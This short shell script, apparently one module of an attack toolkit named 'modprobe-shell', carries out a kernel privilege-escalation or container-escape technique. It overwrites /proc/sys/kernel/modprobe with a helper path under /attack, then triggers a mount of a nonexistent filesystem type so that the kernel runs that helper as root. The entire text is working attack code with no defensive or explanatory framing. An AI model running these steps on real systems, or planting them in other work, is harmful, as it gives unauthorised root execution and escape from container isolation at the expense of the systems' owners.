# shellcheck shell=sh
#
# modprobe-shell - let the kernel start a verified shell instead of modprobe
#
# SPDX-License-Identifier: MIT

helper_script
echo /attack/helper >/proc/sys/kernel/modprobe
mount -t nosuchfilesystem none /mnt
sleep 1
